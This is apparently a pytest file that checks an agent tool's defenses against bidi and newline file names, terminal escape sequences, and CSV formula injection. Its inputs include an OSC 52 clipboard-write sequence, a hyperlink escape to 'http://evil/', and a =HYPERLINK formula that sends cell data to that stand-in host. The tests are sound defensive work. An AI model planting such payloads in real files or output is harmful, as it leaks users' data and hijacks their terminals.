"""Attack 9 (lower): a returned file name with a bidi or newline character lost the kernel's
state; ``sub/dir/x.txt`` and ``sub__dir__x.txt`` came back under one name; the CLI transcript
passed terminal escape sequences (OSC 52 writes the clipboard); formula-like CSV cells went
into downloads and the zip export unmarked."""
from __future__ import annotations

import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from agent_core.events import FileReturned, TextChunk
from agent_core.files import ReturnedFile
from agent_core.interpreter.pool import KernelPool
from agent_core.store import RunStore
from tests.conftest import require_tool
from tests.unit.interpreter_helpers import kernel_processes, settings_for

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def pool(tmp_path):
    require_tool("bwrap", "the kernel sandbox")
    p = KernelPool(settings_for(tmp_path / "home", AGENT_DESK_MAX_KERNELS="2"), warm_spare=False)
    yield p
    p.shutdown()
    assert kernel_processes(p.marker) == []


@pytest.mark.timeout(120)
def test_bidi_and_newline_names_keep_the_kernel_state_and_names_stay_distinct(pool):
    setup = pool.execute("names", "x = 41")
    assert setup.error is None
    code = ("import os\nopen('report\\u202egnp.csv', 'w').write('a\\n1\\n')\n"
            "open('two\\nlines.txt', 'w').write('t')\n"
            "os.makedirs('sub/dir', exist_ok=True)\nopen('sub/dir/x.txt', 'w').write('deep')\n"
            "open('sub__dir__x.txt', 'w').write('flat')\nprint(x + 1)")
    result = pool.execute("names", code)
    assert result.error is None, result.error
    assert not result.kernel_restarted and "42" in result.stdout  # the state was kept
    names = [f.name for f in result.files]
    assert len(names) == len(set(n.lower() for n in names)) == 4, names
    assert not any(c in n for n in names for c in "\u202e\n")
    by_data = {f.data: f.name for f in result.files}
    assert by_data[b"deep"] != by_data[b"flat"]
    assert pool.execute("names", "print(x)").stdout.strip() == "41"


@pytest.mark.timeout(120)
def test_cli_transcript_strips_terminal_control_sequences(tmp_path):
    osc52 = "\x1b]52;c;ZXZpbA==\x07"
    osc8 = "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\"
    code = f"print({(osc52 + osc8 + chr(0x1b) + '[2J' + chr(0x9b) + '31mred').__repr__()})"
    proc = subprocess.run(
        [sys.executable, "-m", "agent_core", "ask", f"run this code: ```{code}```"],
        cwd=ROOT, capture_output=True, timeout=100,
        env={"PATH": "/usr/bin:/bin", "AGENT_DESK_HOME": str(tmp_path / "home"), "AGENT_BACKEND": "local",
             "AGENT_DESK_SANDBOX": "none"})
    out = proc.stdout.decode("utf-8", "replace")
    assert "click" in out and "red" in out, out
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out and "\x9d" not in out, repr(out)


def test_formula_cells_are_flagged_in_the_zip_export_with_a_safe_copy(tmp_path):
    from agent_core.export import run_to_zip

    store = RunStore(tmp_path / "home")
    run_id = store.start_run("s", "p", "local")
    csv = b'name,price\nok,-5.2\nbad,"=HYPERLINK(""http://evil/?d=""&A1)"\nat,@SUM(A1)\n'
    store.append_event(run_id, TextChunk(text="done"))
    store.append_event(run_id, FileReturned(file=ReturnedFile("prices.csv", "text/csv", csv)))
    store.finish_run(run_id, "completed")
    zf = zipfile.ZipFile(io.BytesIO(run_to_zip(store, run_id)))
    meta = json.loads(zf.read("run.json"))
    assert meta["formula_like_cells"]["files"] == {"prices.csv": 2}
    safe = zf.read("files/prices.spreadsheet-safe.csv").decode()
    assert "'=HYPERLINK" in safe and "'@SUM(A1)" in safe and ",-5.2" in safe
    assert zf.read("files/prices.csv") == csv  # the original is kept as it came


@pytest.mark.timeout(60)
def test_formula_cells_are_flagged_on_the_page_with_a_safe_download(tmp_path):
    from streamlit.testing.v1 import AppTest

    def page():
        import streamlit as st

        from agent_core.files import ReturnedFile
        from components.file_view import render_file

        data = b"name,price\nbad,=1+1\nok,3\n"
        render_file(ReturnedFile("t.csv", "text/csv", data), key="t")
        st.write("end")

    at = AppTest.from_function(page, default_timeout=30)
    at.run()
    assert not at.exception, at.exception
    assert any("start with =, +, - or @" in w.value for w in at.warning)
    labels = [b.label for b in at.get("download_button")]
    assert any(label.startswith("Download spreadsheet-safe copy") for label in labels), labels
